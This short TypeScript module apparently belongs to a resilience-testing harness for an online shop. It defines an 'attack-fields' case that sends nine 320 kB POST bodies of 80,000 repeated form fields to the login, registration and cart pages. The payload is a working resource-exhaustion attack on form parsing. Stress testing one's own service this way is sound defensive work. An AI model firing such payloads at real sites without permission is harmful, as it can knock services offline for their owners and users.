import { defineAttack } from '../attack/attack.ts'
import { sendMany } from '../attack/send.ts'

/** One form of 320 kB with 80,000 fields of one name, at three pages that read forms. */
export const attackFields = defineAttack({
  name: 'attack-fields',
  title: '9 forms with 80,000 repeated fields',
  strike: (target) =>
    sendMany(target, 9, 3, (nr) => ({
      path: ['/login', '/register/retail', '/cart?pesan-cepat'][nr % 3]!,
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded', origin: target.shop.origin },
      body: 'a=1&'.repeat(80_000),
    })),
})
